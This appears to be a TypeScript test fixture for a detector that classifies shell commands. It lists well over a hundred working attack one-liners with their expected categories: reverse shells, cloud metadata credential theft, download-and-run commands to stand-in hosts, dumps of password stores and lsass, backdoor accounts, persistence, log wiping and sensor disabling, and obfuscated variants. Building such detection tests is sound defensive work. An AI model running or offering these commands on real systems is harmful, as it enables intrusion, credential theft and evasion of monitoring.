import type { CategoryId } from '../../../shared/command/categories/category'

/** A script and the strong categories it must show, all of them and no others. */
export type AttackScript = readonly [name: string, text: string, strong: readonly CategoryId[]]

const utf16Base64 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const base64 = (text: string): string => Buffer.from(text).toString('base64')

/** Scripts of an attacker on a machine. Addresses are documentation ranges; payloads are written for the tests. */
export const attackScripts: readonly AttackScript[] = [
  // Reverse shells
  ['bash to /dev/tcp', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', ['reverse-shell']],
  ['bash to /dev/tcp inside bash -c', "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", ['reverse-shell']],
  ['the descriptor form', '0<&196;exec 196<>/dev/tcp/198.51.100.7/443; sh <&196 >&196 2>&196', ['reverse-shell']],
  ['the descriptor form without the shell', '0<&196;exec 196<>/dev/tcp/198.51.100.7/443', ['reverse-shell']],
  [
    'a read loop on a descriptor',
    'exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done',
    ['reverse-shell'],
  ],
  ['sh over udp', 'sh -i >& /dev/udp/198.51.100.7/53 0>&1', ['reverse-shell']],
  [
    'mkfifo and nc',
    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f',
    ['reverse-shell'],
  ],
  ['nc -e', 'nc -e /bin/sh 198.51.100.7 4444', ['reverse-shell']],
  ['a listening ncat', 'ncat -lvnp 4444 -e /bin/bash', ['reverse-shell']],
  ['busybox nc', 'busybox nc 198.51.100.7 4444 -e sh', ['reverse-shell']],
  ['socat exec', "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.7:4444", ['reverse-shell']],
  [
    'openssl between fifos',
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:443 > /tmp/s',
    ['reverse-shell'],
  ],
  ['telnet pair', 'telnet 198.51.100.7 4444 | /bin/sh | telnet 198.51.100.7 4445', ['reverse-shell']],
  [
    'python socket and pty',
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) ` +
      `for f in (0,1,2)];pty.spawn("/bin/sh")'`,
    ['reverse-shell'],
  ],
  [
    'python in a here-document',
    'python3 - <<EOF\nimport socket,subprocess,os\ns=socket.socket()\ns.connect(("198.51.100.7",' +
      '4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])\nEOF',
    ['reverse-shell'],
  ],
  [
    'a whole python script',
    '#!/usr/bin/env python3\nimport socket, os, pty\ns = socket.socket()\ns.connect(("198.51.100.7", ' +
      '4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/bash")\n',
    ['reverse-shell'],
  ],
  [
    'perl socket',
    `perl -e 'use ` +
      'Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton($i)));' +
      'open(STDIN,">&S");exec("/bin/sh ' +
      `-i");'`,
    ['reverse-shell'],
  ],
  [
    'perl with its program in the option',
    `perl -MIO -e'$p=fork;exit,if($p);$c=new ` +
      `IO::Socket::INET(PeerAddr,"198.51.100.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    ['reverse-shell'],
  ],
  [
    'python with its program in the option',
    `python3 -c'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444));` +
      `os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])'`,
    ['reverse-shell'],
  ],
  [
    'ruby with its program in the option',
    `ruby -rsocket -e'c=TCPSocket.new("198.51.100.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print ` +
      `io.read}end'`,
    ['reverse-shell'],
  ],
  ['php socket', `php -r '$s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, ['reverse-shell']],
  [
    'ruby socket',
    `ruby -rsocket -e 'f=TCPSocket.open("198.51.100.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
    ['reverse-shell'],
  ],
  [
    'node socket',
    `node -e 'var n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh");var ` +
      `k=n.connect(4444,"198.51.100.7");k.pipe(s.stdin);s.stdout.pipe(k)'`,
    ['reverse-shell'],
  ],
  [
    'PowerShell TCP client',
    '$c = New-Object System.Net.Sockets.TCPClient("198.51.100.7",4444);$s = $c.GetStream();[byte[]]$b = ' +
      '0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object -TypeName ' +
      'System.Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String);$s.Write($r,0,$r.Length)}',
    ['reverse-shell'],
  ],
  ['in a container', 'docker exec web sh -c "nc 198.51.100.7 4444 -e /bin/sh"', ['reverse-shell']],

  // Metadata credentials
  [
    'role credentials by curl',
    'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role',
    ['metadata-credentials'],
  ],
  [
    'role credentials with a token',
    'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: ' +
      '21600")\nROLE=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" ' +
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s -H "X-aws-ec2-metadata-token: ' +
      '$TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE',
    ['metadata-credentials'],
  ],
  [
    'the address in a variable',
    'B=http://169.254.169.254/latest/meta-data; curl -s $B/iam/security-credentials/',
    ['metadata-credentials'],
  ],
  [
    'Azure token by curl',
    "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/" +
      "token?api-version=2018-02-01&resource=https://management.azure.com/'",
    ['metadata-credentials'],
  ],
  [
    'Azure token by PowerShell',
    "Invoke-RestMethod -Headers @{Metadata='true'} -Uri " +
      "'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://" +
      "vault.azure.net'",
    ['metadata-credentials'],
  ],
  [
    'the identity endpoint',
    'curl "$IDENTITY_ENDPOINT?resource=https://management.azure.com/&api-version=2019-08-01" -H ' +
      '"X-IDENTITY-HEADER: $IDENTITY_HEADER"',
    ['metadata-credentials'],
  ],
  ['ECS task role', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', ['metadata-credentials']],
  [
    'python urllib',
    'python3 -c "import urllib.request as ' +
      `u;print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/r').read())"`,
    ['metadata-credentials'],
  ],
  ['keys printed by the AWS CLI', 'aws configure export-credentials --format env', ['metadata-credentials']],

  // Download and run
  ['curl to bash', 'curl -fsSL http://198.51.100.7/x.sh | bash', ['download-and-run']],
  ['wget to sh with sudo', 'wget -qO- https://evil.example.com/i.sh | sudo -E sh -s -- --quiet', ['download-and-run']],
  ['eval of curl', 'eval "$(curl -fsSL https://evil.example.com/i.sh)"', ['download-and-run']],
  ['bash -c of curl', 'bash -c "$(curl -fsSL https://evil.example.com/i.sh)"', ['download-and-run']],
  ['process substitution', 'bash <(curl -s https://evil.example.com/i.sh)', ['download-and-run']],
  ['source of a process', '. <(wget -qO- https://evil.example.com/i.sh)', ['download-and-run']],
  ['a substitution as command', '$(curl -s http://198.51.100.7/cmd)', ['download-and-run']],
  ['through a variable', 'p=$(curl -s http://198.51.100.7/p); eval "$p"', ['download-and-run']],
  ['decoded on the way', 'curl -s http://198.51.100.7/p | base64 -d | bash', ['download-and-run']],
  ['from a name server', 'dig +short txt p.evil.example.com | bash', ['download-and-run']],
  ['wget, chmod, run', 'cd /tmp && wget http://198.51.100.7/agent && chmod +x agent && ./agent', ['download-and-run']],
  [
    'curl -o, chmod, nohup run',
    'curl -s http://198.51.100.7/a -o /tmp/.a; chmod 755 /tmp/.a; nohup /tmp/.a >/dev/null 2>&1 &',
    ['download-and-run'],
  ],
  ['python of a fetched file', 'curl -sO https://evil.example.com/run.py\npython3 run.py', ['download-and-run']],
  ['an archive from an address', 'wget http://198.51.100.7/a.tgz && tar xzf a.tgz && ./a/run', ['download-and-run']],
  [
    'IEX DownloadString',
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
    ['download-and-run'],
  ],
  ['irm to iex', 'irm https://evil.example.com/a.ps1 | iex', ['download-and-run']],
  [
    'DownloadString in a variable',
    "$s = (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\nInvoke-Expression $s",
    ['download-and-run'],
  ],
  [
    'a script block of a download',
    '& ([scriptblock]::Create((Invoke-WebRequest -UseBasicParsing http://198.51.100.7/a.ps1).Content))',
    ['download-and-run'],
  ],
  [
    'Invoke-WebRequest and Start-Process',
    'Invoke-WebRequest -Uri http://198.51.100.7/a.exe -OutFile C:\\Windows\\Tasks\\a.exe; Start-Process ' +
      'C:\\Windows\\Tasks\\a.exe',
    ['download-and-run'],
  ],
  [
    'DownloadFile and the call operator',
    "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a.exe','C:\\ProgramData\\a.exe')\n& " +
      'C:\\ProgramData\\a.exe',
    ['download-and-run'],
  ],
  [
    'certutil',
    'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\ProgramData\\a.exe',
    ['download-and-run'],
  ],
  [
    'bitsadmin',
    'bitsadmin /transfer j /download /priority high http://198.51.100.7/a.exe C:\\ProgramData\\a.exe',
    ['download-and-run'],
  ],
  ['mshta', 'mshta http://198.51.100.7/a.hta', ['download-and-run']],
  ['regsvr32', 'regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll', ['download-and-run']],
  ['msiexec', 'msiexec /q /i http://198.51.100.7/a.msi', ['download-and-run']],
  [
    'python exec of a URL',
    `python3 -c "import urllib.request;exec(urllib.request.urlopen('http://198.51.100.7/p').read())"`,
    ['download-and-run'],
  ],
  [
    'an encoded command',
    'powershell.exe -NoP -W Hidden ' +
      `-Enc ${utf16Base64("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")}`,
    ['download-and-run'],
  ],
  ['base64 to sh', `echo ${base64('curl -s http://198.51.100.7/x | sh')} | base64 -d | sh`, ['download-and-run']],
  [
    'a here-string decoded',
    `bash <<< $(base64 -d <<< ${base64('wget -qO- http://198.51.100.7/x | bash')})`,
    ['download-and-run'],
  ],

  // Credential files
  ['the password file', 'cat /etc/shadow', ['credential-files']],
  ['the password file by sudo', 'sudo cat /etc/shadow | base64', ['credential-files']],
  ['the password file by pattern', '/bin/cat /etc/sh?d*w', ['credential-files']],
  ['the password file without blanks', 'cat${IFS}/etc/shadow', ['credential-files']],
  ['the password file in braces', '{cat,/etc/shadow}', ['credential-files']],
  ['AWS keys', 'cat /home/*/.aws/credentials ~/.aws/credentials', ['credential-files']],
  ['Azure tokens', 'tar czf - /root/.azure | base64 -w0', ['credential-files']],
  ['SSH keys by find', 'find / -name id_rsa -exec cat {} \\;; cat /home/ubuntu/.ssh/id_rsa', ['credential-files']],
  ['the Arc key on Linux', 'cat /var/opt/azcmagent/certs/myCert', ['credential-files']],
  ['the Arc key on Windows', 'gc C:\\ProgramData\\AzureConnectedMachineAgent\\Certs\\myCert.cer', ['credential-files']],
  ['the hybrid worker key', 'Get-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\HybridRunbookWorkerV2', ['credential-files']],
  [
    'the hybrid worker key by reg',
    'reg query HKLM\\SOFTWARE\\Microsoft\\HybridRunbookWorkerV2 /s',
    ['credential-files'],
  ],
  [
    'an Automation certificate',
    "$cert = Get-AutomationCertificate -Name 'AzureRunAsCertificate'\n$bytes = " +
      "$cert.Export('pfx')\n[Convert]::ToBase64String($bytes)",
    ['credential-files'],
  ],
  [
    'the SAM hive',
    'reg save HKLM\\SAM C:\\ProgramData\\s.hiv & reg save HKLM\\SYSTEM C:\\ProgramData\\y.hiv',
    ['credential-files'],
  ],
  [
    'lsass by comsvcs',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\l.dmp full',
    ['credential-files'],
  ],
  ['lsass by procdump', 'procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\l.dmp', ['credential-files']],
  [
    'clear-text logins switched on',
    'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t ' +
      'REG_DWORD /d 1 /f',
    ['credential-files'],
  ],
  ['the domain database', 'ntdsutil "ac i ntds" "ifm" "create full c:\\programdata\\n" q q', ['credential-files']],
  ['python open', `python3 -c "print(open('/etc/shadow').read())"`, ['credential-files']],
  ['os.system', `python -c 'import os; os.system("cat /etc/shadow")'`, ['credential-files']],
  ['a kube config', 'cat /root/.kube/config', ['credential-files']],

  // New account
  [
    'net user and administrators',
    'net user /add backdoor Passw0rd!234\nnet localgroup administrators backdoor /add',
    ['new-account'],
  ],
  [
    'through cmd /c',
    'cmd.exe /c "net user support Passw0rd!234 /add && net localgroup Administrators support /add"',
    ['new-account'],
  ],
  ['carets and percent variables', 'set a=net&& set b=user&& %a% %b% s^u^p^p^o^r^t Passw0rd!234 /add', ['new-account']],
  [
    'New-LocalUser',
    "New-LocalUser -Name support -Password (ConvertTo-SecureString 'Passw0rd!234' -AsPlainText " +
      '-Force)\nAdd-LocalGroupMember -Group Administrators -Member support',
    ['new-account'],
  ],
  ['useradd in sudo', 'useradd -m -s /bin/bash -G sudo support', ['new-account']],
  ['usermod to wheel', 'useradd support; usermod -aG wheel support', ['new-account']],
  ['a second root', 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support', ['new-account']],
  ['chpasswd', "echo 'root:Passw0rd!234' | chpasswd", ['new-account']],
  [
    'a key appended',
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFx support' >> /root/.ssh/authorized_keys",
    ['new-account'],
  ],
  [
    'a key by tee',
    "echo 'ssh-rsa AAAAB3NzaC1yc2E support' | sudo tee -a /home/ubuntu/.ssh/authorized_keys > /dev/null",
    ['new-account'],
  ],
  ['sudo without password', "echo 'support ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-support", ['new-account']],
  ['a line in the password file', "echo 'support:$6$x$y:0:0::/root:/bin/bash' >> /etc/passwd", ['new-account']],

  // Persistence
  [
    'cron with a download',
    '(crontab -l 2>/dev/null; echo "* * * * * curl -s http://198.51.100.7/x | bash") | crontab -',
    ['download-and-run', 'persistence'],
  ],
  ['cron with a hidden program', 'echo "@reboot root /usr/lib/.x/sshd" > /etc/cron.d/sync', ['persistence']],
  ['a crontab from a temporary file', 'crontab /tmp/c', ['persistence']],
  [
    'a unit that runs a temporary file',
    'cat > /etc/systemd/system/sync.service <<EOF\n[Service]\nExecStart=/bin/bash ' +
      '/var/tmp/s.sh\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl enable --now sync',
    ['persistence'],
  ],
  [
    'a task with encoded PowerShell',
    `schtasks /create /tn Updater /tr "powershell -w hidden -enc ${utf16Base64('Start-Sleep 1')}" /sc minute ` +
      '/mo 30 /ru SYSTEM',
    ['persistence'],
  ],
  [
    'a task at logon',
    'schtasks /create /tn Updater /sc onlogon /tr "cmd.exe /c C:\\ProgramData\\u.bat"',
    ['persistence'],
  ],
  [
    'a run key',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d C:\\ProgramData\\u.exe /f',
    ['persistence'],
  ],
  [
    'a run key by cmdlet',
    "New-ItemProperty -Path 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Updater -Value " +
      "'C:\\ProgramData\\u.exe'",
    ['persistence'],
  ],
  [
    'a WMI subscription',
    "$f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='u'}",
    ['persistence'],
  ],
  ['a preloaded library', 'echo /usr/local/lib/libx.so > /etc/ld.so.preload', ['persistence']],
  ['an alias for sudo', `echo "alias sudo='/tmp/.s'" >> ~/.bashrc`, ['persistence']],
  ['rc.local with a hidden program', "echo '/dev/shm/.u &' >> /etc/rc.local", ['persistence']],
  [
    'a service with a shell',
    'sc.exe create upd binPath= "cmd.exe /c powershell -w hidden -c iex" start= auto',
    ['persistence'],
  ],
  ['a set-uid shell', 'cp /bin/bash /var/tmp/.b; chmod u+s /var/tmp/.b', ['persistence']],

  // Cover-up
  ['history cleared', 'history -c; rm -f ~/.bash_history', ['cover-up']],
  ['history off', 'unset HISTFILE; export HISTSIZE=0', ['cover-up']],
  ['all logs', 'rm -rf /var/log/*', ['cover-up']],
  ['login records', 'cat /dev/null > /var/log/wtmp; truncate -s 0 /var/log/auth.log', ['cover-up']],
  ['event logs', 'wevtutil cl Security & wevtutil cl System', ['cover-up']],
  ['event logs by cmdlet', 'Clear-EventLog -LogName Security', ['cover-up']],
  ['audit rules', 'auditctl -D', ['cover-up']],
  ['Defender off', 'Set-MpPreference -DisableRealtimeMonitoring $true', ['cover-up']],
  ['a sensor stopped', 'systemctl stop falcon-sensor && systemctl disable falcon-sensor', ['cover-up']],
  ['an agent stopped', 'service amazon-cloudwatch-agent stop', ['cover-up']],
  ['a Windows sensor stopped', 'Stop-Service -Name Sense -Force', ['cover-up']],
  ['time stamps', 'touch -r /bin/ls /usr/bin/x', ['cover-up']],
  ['the trail stopped', 'aws cloudtrail stop-logging --name main', ['cover-up']],
  [
    'script scanning off',
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic," +
      "Static').SetValue($null,$true)",
    ['cover-up'],
  ],

  // Miner
  ['xmrig', 'nohup ./xmrig -o stratum+tcp://pool.example.com:3333 -u w --donate-level 1 &', ['miner']],
  ['a miner under another name', '/usr/bin/kworkerd -o pool.supportxmr.com:443 -u w -k --tls', ['miner']],
  [
    'download and run of a miner',
    'wget http://198.51.100.7/xmrig -O /tmp/k; chmod +x /tmp/k; /tmp/k -o 198.51.100.8:3333 --donate-level=1',
    ['download-and-run', 'miner'],
  ],

  // Remote access and agents
  ['ngrok', './ngrok tcp 22', ['remote-access']],
  ['chisel', 'chisel client 198.51.100.7:8080 R:socks', ['remote-access']],
  ['cloudflared', 'cloudflared tunnel --url ssh://localhost:22', ['remote-access']],
  ['a remote forward', 'ssh -fN -R 2222:localhost:22 u@198.51.100.7', ['remote-access']],
  ['socat listening', 'socat TCP-LISTEN:8443,fork TCP:10.0.0.5:443', ['remote-access']],
  [
    'AnyDesk',
    'C:\\ProgramData\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent',
    ['remote-access'],
  ],
  [
    'the SSM agent re-registered',
    'amazon-ssm-agent -register -code "activation-code" -id "00000000-0000-0000-0000-000000000001" -region "us-east-1"',
    ['agent-hijack'],
  ],
  [
    'the SSM agent on Windows',
    '& "C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe" -register -code abc -id ' +
      '00000000-0000-0000-0000-000000000001 -region us-east-1',
    ['agent-hijack'],
  ],
  [
    'Arc bound to a tenant',
    'azcmagent connect --tenant-id 00000000-0000-0000-0000-000000000002 --subscription-id ' +
      '00000000-0000-0000-0000-000000000003 --resource-group r --location westeurope',
    ['agent-hijack'],
  ],

  // Cloud control and destruction
  [
    'an IAM user',
    'aws iam create-user --user-name support && aws iam create-access-key --user-name support',
    ['cloud-control'],
  ],
  [
    'commands for other machines',
    'aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:Env,Values=prod --parameters ' +
      'commands=id',
    ['cloud-control'],
  ],
  [
    'az run-command',
    "az vm run-command invoke -g r -n vm2 --command-id RunShellScript --scripts 'id'",
    ['cloud-control'],
  ],
  ['shadow copies', 'vssadmin delete shadows /all /quiet', ['destruction']],

  // Real payloads of public test tools, as the landscape lists them
  [
    'PowerZure runbook',
    '$connection = Get-AutomationConnection -Name AzureRunAsConnection\nAdd-AzureRmAccount -ServicePrincipal ' +
      '-Tenant $connection.TenantID -ApplicationId $connection.ApplicationID -CertificateThumbprint ' +
      '$connection.CertificateThumbprint\nNew-Item C:\\temp\\test.ps1\nInvoke-AzureRmVMRunCommand ' +
      '-ResourceGroupName r -VMName v -CommandId RunPowerShellScript -ScriptPath C:\\temp\\test.ps1',
    ['credential-files', 'cloud-control'],
  ],
  ['MicroBurst encryption', "Protect-CmsMessage -To 'cn=microburst' -Content $secret", ['known-tool']],
  [
    'MicroBurst certificate',
    'Import-Certificate -FilePath C:\\Temp\\microburst.cer -CertStoreLocation Cert:\\LocalMachine\\My',
    ['known-tool'],
  ],
  ["the worm's program", 'python3 rope.pyz', ['known-tool']],
  ["the worm's server", 'curl -s https://check.git-service.com/x -o /tmp/x', ['known-tool']],
  [
    "the worm's other server",
    'wget -q https://t.m-kosche.com/rope.pyz -O /tmp/r && python3 /tmp/r',
    ['download-and-run', 'known-tool'],
  ],
  ['mimikatz', '.\\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', ['known-tool']],

  // Obfuscated forms
  ['quotes inside names', 'c"u"r"l" -s http://198.51.100.7/x | b\'a\'sh', ['download-and-run']],
  ['backslashes inside names', 'c\\u\\r\\l -s http://198.51.100.7/x | b\\a\\s\\h', ['download-and-run']],
  ['empty parameters inside names', 'wh$@oami; c$@at /etc/sh$@adow', ['credential-files']],
  ['names in variables', 'a=cu;b=rl;$a$b -s http://198.51.100.7/x|ba$@sh', ['download-and-run']],
  [
    'joined strings',
    "&('I'+'EX') (New-Object Net.WebClient).('Down'+'loadString').Invoke('http://198.51.100.7/a.ps1')",
    ['download-and-run'],
  ],
  [
    'the format operator',
    "&(\"{1}{0}\" -f 'EX','I') (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
    ['download-and-run'],
  ],
  ['backticks', "I`E`X (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", ['download-and-run']],
  [
    'character codes',
    "&([char]73+[char]69+[char]88) (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
    ['download-and-run'],
  ],
  [
    'a name that ends at a parenthesis',
    "IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
    ['download-and-run'],
  ],
  [
    'two parentheses',
    "iex((New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1'))",
    ['download-and-run'],
  ],
  ['the same from the command prompt', 'cmd /c powershell IEX(irm http://198.51.100.7/a.ps1)', ['download-and-run']],
  [
    'the same for every file',
    'forfiles /p c:\\windows\\system32 /m cmd.exe /c "cmd /c powershell iex(irm http://198.51.100.7/a)"',
    ['download-and-run'],
  ],
  ['an alias of an alias', 'sal a iex; a(irm http://198.51.100.7/a)', ['download-and-run']],
  [
    'an alias by its long name',
    'Set-Alias -Name x -Value Invoke-Expression; x (irm http://198.51.100.7/a)',
    ['download-and-run'],
  ],
  ['a command found by a pattern', '&(gcm i*x)(iwr http://198.51.100.7/a)', ['download-and-run']],
  [
    'octal codes of two digits',
    "printf '\\143\\141\\164\\40\\57\\145\\164\\143\\57\\163\\150\\141\\144\\157\\167'|sh",
    ['credential-files'],
  ],
  ['reversed', "echo 'hsab | x/7.001.15.891//:ptth s- lruc' | rev | sh", ['download-and-run']],
  ['hexadecimal', `echo ${Buffer.from('cat /etc/shadow').toString('hex')} | xxd -r -p | sh`, ['credential-files']],
  [
    'escape codes',
    "printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x73\\x68\\x61\\x64\\x6f\\x77' | sh",
    ['credential-files'],
  ],
  ['an ANSI-quoted command', "$'\\x63\\x61\\x74' /etc/shadow", ['credential-files']],
  [
    'base64 twice',
    `echo ${base64(`echo ${base64('cat /etc/shadow')} | base64 -d | sh`)} | base64 -d | sh`,
    ['credential-files'],
  ],
  [
    'FromBase64String',
    `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('` +
      `${base64('net user support Passw0rd!234 /add')}')))`,
    ['new-account'],
  ],
  [
    'python base64',
    `python3 -c "import base64;exec(base64.b64decode('${base64("import os;os.system('cat /etc/shadow')")}'))"`,
    ['credential-files'],
  ],
  [
    'a document in JSON',
    JSON.stringify({
      schemaVersion: '2.2',
      mainSteps: [{ action: 'aws:runShellScript', inputs: { runCommand: ['echo start', 'cat /etc/shadow'] } }],
    }),
    ['credential-files'],
  ],
  [
    'a document in YAML',
    'schemaVersion: "2.2"\nmainSteps:\n- action: aws:runShellScript\n  name: run\n  inputs:\n    runCommand:\n   ' +
      ' - echo start\n    - cat /etc/shadow\n',
    ['credential-files'],
  ],
]
